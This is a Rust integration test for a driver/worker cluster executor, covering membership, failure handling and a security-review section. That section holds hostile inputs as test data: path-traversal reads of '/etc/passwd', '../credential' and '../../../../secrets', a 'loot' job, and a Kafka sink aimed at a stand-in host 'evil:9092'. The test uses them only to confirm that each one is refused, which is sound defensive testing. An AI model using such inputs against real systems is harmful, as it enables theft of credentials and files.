//! The real `hdi-executor` binary as a driver and two workers on loopback: membership forms,
//! a SIGKILLed worker is dropped, malformed registrations are refused with problem documents, a
//! second process on a locked data directory, a worker whose driver refuses it and bad flags fail,
//! and SIGTERM stops cleanly. Security: every endpoint but `/healthz` answers 401 without the
//! cluster credential (a rogue worker cannot register, nobody can list or submit jobs or send a
//! task), a worker reads no path a task names, a job reaching out of its files root is refused
//! at submit, and a credential file others may read is refused.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError, channel};
use std::time::{Duration, Instant};

use serde_json::Value;

const BINARY: &str = env!("CARGO_BIN_EXE_hdi-executor");

/// A running `hdi-executor`, its stderr read line by line on a thread (and echoed for failures).
struct Process {
    name: String,
    child: Child,
    lines: Receiver<String>,
}

impl Process {
    fn start(name: &str, args: &[&str]) -> Process {
        let mut child = Command::new(BINARY)
            .args(args)
            .env("RUST_LOG", "info")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("cannot start hdi-executor");
        let stderr = child.stderr.take().unwrap();
        let (sender, lines) = channel();
        let prefix = name.to_owned();
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines() {
                let Ok(line) = line else { break };
                eprintln!("[{prefix}] {line}");
                if sender.send(line).is_err() {
                    break;
                }
            }
        });
        Process {
            name: name.to_owned(),
            child,
            lines,
        }
    }

    /// Waits for the `ready on <addr>` line; returns the address.
    fn ready(&mut self, timeout: Duration) -> String {
        let needle = "ready on ";
        let line = self.wait_for_line(needle, timeout);
        let after = &line[line.find(needle).unwrap() + needle.len()..];
        after
            .split_whitespace()
            .next()
            .unwrap()
            .trim_end_matches(|c: char| !c.is_ascii_digit())
            .to_owned()
    }

    fn wait_for_line(&mut self, needle: &str, timeout: Duration) -> String {
        let deadline = Instant::now() + timeout;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match self.lines.recv_timeout(left) {
                Ok(line) if line.contains(needle) => return line,
                Ok(_) => {}
                Err(RecvTimeoutError::Timeout) => {
                    panic!("{}: no line with '{needle}' within {timeout:?}", self.name)
                }
                Err(RecvTimeoutError::Disconnected) => panic!(
                    "{}: exited ({:?}) before a line with '{needle}'",
                    self.name,
                    self.child.try_wait()
                ),
            }
        }
    }

    fn signal(&self, signal: libc::c_int) {
        let pid = libc::pid_t::try_from(self.child.id()).unwrap();
        #[allow(unsafe_code, reason = "kill(2) of our own child process")]
        // SAFETY: kill takes plain integers; the child is not yet reaped, so the pid is ours.
        let rc = unsafe { libc::kill(pid, signal) };
        assert_eq!(rc, 0, "kill {} failed", self.name);
    }

    fn wait(&mut self, timeout: Duration) -> ExitStatus {
        let deadline = Instant::now() + timeout;
        loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                return status;
            }
            assert!(
                Instant::now() < deadline,
                "{} did not exit within {timeout:?}",
                self.name
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Process {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// This test run's scratch directory (removed by the cluster test when it passes).
fn scratch() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("executor-cluster-{}", std::process::id()))
}

const CREDENTIAL: &str = "test-cluster-credential-0123456789abcdef";

/// `--credential-file F --files-root D`, with the credential written to a 0600 file.
fn cluster_flags() -> Vec<String> {
    let dir = scratch();
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("credential");
    hdi_stdx::secret::write_secret_file(&file, CREDENTIAL).unwrap();
    vec![
        "--credential-file".into(),
        file.to_str().unwrap().into(),
        "--files-root".into(),
        dir.join("files").to_str().unwrap().into(),
    ]
}

fn with_cluster_flags<'a>(args: &[&'a str], flags: &'a [String]) -> Vec<&'a str> {
    args.iter()
        .copied()
        .chain(flags.iter().map(String::as_str))
        .collect()
}

fn fresh_dir(name: &str) -> PathBuf {
    let dir = scratch().join(name);
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Runs the binary to completion (for failures that exit at once); returns status and stderr.
fn run_to_exit(args: &[&str]) -> (i32, String) {
    let output = Command::new(BINARY)
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

async fn get_json(client: &reqwest::Client, url: &str) -> Value {
    let response = client.get(url).send().await.unwrap();
    assert_eq!(response.status(), 200, "GET {url}");
    response.json().await.unwrap()
}

fn worker_ids(cluster: &Value) -> Vec<u64> {
    cluster["workers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|worker| worker["id"].as_u64().unwrap())
        .collect()
}

#[tokio::test]
async fn driver_and_two_workers_form_a_cluster() {
    let ready_within = Duration::from_secs(10);
    let flags = cluster_flags();
    let mut headers = reqwest::header::HeaderMap::new();
    headers.insert(
        "authorization",
        format!("Bearer {CREDENTIAL}").parse().unwrap(),
    );
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(5))
        .default_headers(headers)
        .build()
        .unwrap();
    let anonymous = reqwest::Client::builder()
        .timeout(Duration::from_secs(5))
        .build()
        .unwrap();

    let driver_dir = fresh_dir("driver");
    let driver_dir_arg = driver_dir.to_str().unwrap();
    let mut driver = Process::start(
        "driver",
        &with_cluster_flags(
            &[
                "driver",
                "--listen",
                "127.0.0.1:0",
                "--data-dir",
                driver_dir_arg,
                "--worker-timeout",
                "2s",
            ],
            &flags,
        ),
    );
    let driver_addr = driver.ready(ready_within);
    let base = format!("http://{driver_addr}");
    assert_eq!(
        get_json(&client, &format!("{base}/healthz")).await,
        serde_json::json!({"status": "ok", "role": "driver"})
    );

    // A second driver on the same data directory fails at once, naming the problem.
    let (code, stderr) = run_to_exit(&with_cluster_flags(
        &[
            "driver",
            "--listen",
            "127.0.0.1:0",
            "--data-dir",
            driver_dir_arg,
        ],
        &flags,
    ));
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("is in use by another hdi-executor"),
        "{stderr}"
    );

    let mut workers = Vec::new();
    let mut worker_addrs = Vec::new();
    for id in ["1", "2"] {
        let dir = fresh_dir(&format!("worker-{id}"));
        let mut worker = Process::start(
            &format!("worker-{id}"),
            &with_cluster_flags(
                &[
                    "worker",
                    "--id",
                    id,
                    "--listen",
                    "127.0.0.1:0",
                    "--driver",
                    &driver_addr,
                    "--data-dir",
                    dir.to_str().unwrap(),
                ],
                &flags,
            ),
        );
        worker_addrs.push(worker.ready(ready_within));
        workers.push(worker);
    }

    let cluster = get_json(&client, &format!("{base}/v1/cluster")).await;
    assert_eq!(cluster["role"], "driver");
    assert!(cluster["started_at"].as_str().unwrap().ends_with('Z'));
    assert_eq!(worker_ids(&cluster), vec![1, 2], "{cluster}");
    for (worker, address) in cluster["workers"]
        .as_array()
        .unwrap()
        .iter()
        .zip(&worker_addrs)
    {
        assert_eq!(worker["address"].as_str().unwrap(), address);
        assert!(worker["last_seen_ms"].as_u64().unwrap() < 2_000, "{worker}");
        uuid::Uuid::parse_str(worker["incarnation"].as_str().unwrap()).unwrap();
    }
    assert_eq!(
        get_json(&client, &format!("http://{}/healthz", worker_addrs[0])).await,
        serde_json::json!({"status": "ok", "role": "worker", "id": 1, "registered": true})
    );

    // SIGKILL worker 2: the driver drops it after its 2 s timeout.
    workers[1].signal(libc::SIGKILL);
    workers[1].wait(Duration::from_secs(5));
    let killed_at = Instant::now();
    loop {
        let cluster = get_json(&client, &format!("{base}/v1/cluster")).await;
        if worker_ids(&cluster) == vec![1] {
            break;
        }
        assert!(
            killed_at.elapsed() < Duration::from_secs(7),
            "worker 2 still listed 7 s after SIGKILL: {cluster}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    driver.wait_for_line("worker dropped", Duration::from_secs(5));

    // Malformed registrations: 400 problem documents naming the field.
    let incarnation = uuid::Uuid::new_v4();
    let good_body = format!(r#"{{"address":"127.0.0.1:9","incarnation":"{incarnation}"}}"#);
    for (path, body, field) in [
        ("/v1/workers/3", "{not json".to_owned(), "body"),
        (
            "/v1/workers/3",
            r#"{"address":"127.0.0.1:9"}"#.to_owned(),
            "incarnation",
        ),
        ("/v1/workers/0", good_body.clone(), "id"),
    ] {
        let response = client
            .put(format!("{base}{path}"))
            .header("content-type", "application/json")
            .body(body.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 400, "{path} {body}");
        assert_eq!(
            response.headers()["content-type"],
            "application/problem+json"
        );
        let problem: Value = response.json().await.unwrap();
        assert_eq!(problem["type"], "about:blank", "{problem}");
        assert_eq!(problem["title"], "Bad Request", "{problem}");
        assert_eq!(problem["status"], 400, "{problem}");
        assert_eq!(problem["code"], "invalid_field", "{problem}");
        assert_eq!(problem["field"], field, "{problem}");
        assert!(problem["detail"].as_str().is_some(), "{problem}");
    }
    // Refused registrations changed nothing.
    let cluster = get_json(&client, &format!("{base}/v1/cluster")).await;
    assert_eq!(worker_ids(&cluster), vec![1], "{cluster}");

    security_checks(&client, &anonymous, &base, &worker_addrs[0], &flags).await;

    // A worker pointed at something that is not a driver (here worker 1) is refused: exit 1.
    let dir = fresh_dir("worker-9");
    let (code, stderr) = run_to_exit(&with_cluster_flags(
        &[
            "worker",
            "--id",
            "9",
            "--listen",
            "127.0.0.1:0",
            "--driver",
            &worker_addrs[0],
            "--data-dir",
            dir.to_str().unwrap(),
        ],
        &flags,
    ));
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("refused worker 9's registration: 404"),
        "{stderr}"
    );

    // SIGTERM stops a worker and the driver cleanly.
    workers[0].signal(libc::SIGTERM);
    assert_eq!(workers[0].wait(Duration::from_secs(5)).code(), Some(0));
    driver.signal(libc::SIGTERM);
    assert_eq!(driver.wait(Duration::from_secs(5)).code(), Some(0));
    drop(workers);
    let _ = std::fs::remove_dir_all(scratch());
}

/// The reproductions of the security review, against the running driver and worker 1.
async fn security_checks(
    client: &reqwest::Client,
    anonymous: &reqwest::Client,
    base: &str,
    worker: &str,
    flags: &[String],
) {
    // Without the credential (or with another one): 401 on every endpoint but /healthz.
    let wrong = reqwest::Client::new();
    for (method, url, body) in [
        ("GET", format!("{base}/v1/cluster"), ""),
        ("GET", format!("{base}/v1/jobs"), ""),
        (
            "PUT",
            format!("{base}/v1/workers/77"),
            r#"{"address":"127.0.0.1:39998","incarnation":"00000000-0000-0000-0000-000000000001"}"#,
        ),
        (
            "PUT",
            format!("{base}/v1/jobs/evil"),
            r#"{"name":"evil","sql":"SELECT 1","bootstrap_servers":null}"#,
        ),
        ("DELETE", format!("{base}/v1/jobs/x"), ""),
        ("POST", format!("http://{worker}/v1/tasks"), "{}"),
        ("POST", format!("http://{worker}/v1/state"), ""),
    ] {
        for (who, request) in [
            (
                "anonymous",
                anonymous.request(method.parse().unwrap(), &url),
            ),
            (
                "wrong credential",
                wrong
                    .request(method.parse().unwrap(), &url)
                    .bearer_auth("another-credential-0123456789abcdef"),
            ),
        ] {
            let response = request.body(body).send().await.unwrap();
            assert_eq!(response.status(), 401, "{who}: {method} {url}");
            assert_eq!(response.headers()["www-authenticate"], "Bearer");
            let problem: Value = response.json().await.unwrap();
            assert_eq!(problem["code"], "unauthorized", "{problem}");
        }
    }
    let cluster = get_json(client, &format!("{base}/v1/cluster")).await;
    assert_eq!(
        worker_ids(&cluster),
        vec![1],
        "a rogue worker joined: {cluster}"
    );
    let jobs = get_json(client, &format!("{base}/v1/jobs")).await;
    assert_eq!(jobs["jobs"], serde_json::json!([]), "{jobs}");

    // The review's `loot` job: reading out of the files root is refused at submit, with the
    // option and where it stands; so is an absolute path elsewhere and another Kafka cluster.
    for (sql, option, line_column) in [
        (
            "CREATE TABLE loot (line TEXT) WITH (connector = 'files',\n  path = '../../../../secrets', dead_letter_topic = 'loot');\n\
             CREATE TABLE sink WITH (connector = 'blackhole');\n\
             INSERT INTO sink SELECT line FROM loot;",
            "path",
            (2, 3),
        ),
        (
            "CREATE TABLE loot (line TEXT) WITH (connector = 'files', path = '/etc');\n\
             CREATE TABLE sink WITH (connector = 'files', path = 'out');\n\
             INSERT INTO sink SELECT line FROM loot;",
            "path",
            (1, 58),
        ),
        (
            "CREATE TABLE src (line TEXT) WITH (connector = 'files', path = 'in');\n\
             CREATE TABLE sink WITH (connector = 'kafka', topic = 't', bootstrap_servers = 'evil:9092');\n\
             INSERT INTO sink SELECT line FROM src;",
            "bootstrap_servers",
            (2, 59),
        ),
    ] {
        let body = serde_json::json!({"name": "loot", "sql": sql, "bootstrap_servers": null,
            "allowed_kafka": ["127.0.0.1:9092"]});
        for path in ["/v1/jobs/loot", "/v1/jobs/validate"] {
            let request = if path.ends_with("validate") {
                client.post(format!("{base}{path}"))
            } else {
                client.put(format!("{base}{path}"))
            };
            let response = request.json(&body).send().await.unwrap();
            assert_eq!(response.status(), 400, "{path}: {sql}");
            let problem: Value = response.json().await.unwrap();
            assert_eq!(problem["code"], "invalid_option", "{problem}");
            let detail = problem["detail"].as_str().unwrap();
            assert!(detail.contains(&format!("option {option}")), "{problem}");
            assert_eq!(
                (problem["line"].as_u64(), problem["column"].as_u64()),
                (Some(line_column.0), Some(line_column.1)),
                "{problem}"
            );
        }
    }
    let jobs = get_json(client, &format!("{base}/v1/jobs")).await;
    assert_eq!(jobs["jobs"], serde_json::json!([]), "{jobs}");

    // A task naming a path instead of a file of its source directory reads nothing.
    std::fs::create_dir_all(scratch().join("files/in")).unwrap();
    let script = "CREATE TABLE src (line TEXT) WITH (connector = 'files', path = 'in');\n\
                  CREATE TABLE sink WITH (connector = 'blackhole');\n\
                  INSERT INTO sink SELECT line FROM src;";
    for name in [
        "/etc/passwd",
        "../../../../../../etc/passwd",
        "../credential",
    ] {
        let task = serde_json::json!({"job_id": "x", "script": script, "bootstrap": null,
            "batch_id": 0, "watermark_ms": null, "input": {"kind": "files", "names": [name]},
            "tables": {}});
        let response = client
            .post(format!("http://{worker}/v1/tasks"))
            .json(&task)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 500, "{name}");
        let body = response.text().await.unwrap();
        assert!(
            !body.contains("root:") && !body.contains(CREDENTIAL),
            "{body}"
        );
    }
    // The old wire form (paths) is not a task at all.
    let response = client
        .post(format!("http://{worker}/v1/tasks"))
        .json(
            &serde_json::json!({"job_id": "x", "script": script, "bootstrap": null,
            "batch_id": 0, "watermark_ms": null,
            "input": {"kind": "files", "paths": ["/etc/passwd"]}, "tables": {}}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);

    // A credential file that others may read is refused, naming the flag.
    let loose = scratch().join("loose-credential");
    std::fs::write(&loose, CREDENTIAL).unwrap();
    std::fs::set_permissions(&loose, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let dir = fresh_dir("driver-loose");
    let (code, stderr) = run_to_exit(&[
        "driver",
        "--listen",
        "127.0.0.1:0",
        "--data-dir",
        dir.to_str().unwrap(),
        "--credential-file",
        loose.to_str().unwrap(),
        "--files-root",
        &flags[3],
    ]);
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("--credential-file") && stderr.contains("chmod 600"),
        "{stderr}"
    );
}

#[test]
fn bad_flags_are_refused_by_name() {
    let dir = fresh_dir("flags");
    let dir = dir.to_str().unwrap();
    for (args, flag) in [
        (
            vec!["driver", "--listen", "nope", "--data-dir", dir],
            "--listen",
        ),
        (
            vec![
                "driver",
                "--listen",
                "127.0.0.1:0",
                "--data-dir",
                dir,
                "--worker-timeout",
                "0s",
            ],
            "--worker-timeout",
        ),
        (
            vec![
                "worker",
                "--id",
                "0",
                "--listen",
                "127.0.0.1:0",
                "--driver",
                "h:1",
                "--data-dir",
                dir,
            ],
            "--id",
        ),
        (
            vec![
                "worker",
                "--id",
                "1",
                "--listen",
                "127.0.0.1:0",
                "--data-dir",
                dir,
            ],
            "--driver",
        ),
    ] {
        let flags = cluster_flags();
        let args = with_cluster_flags(&args, &flags);
        let (code, stderr) = run_to_exit(&args);
        assert_eq!(code, 2, "{args:?}: {stderr}");
        assert!(stderr.contains(flag), "{args:?}: {stderr}");
    }
}
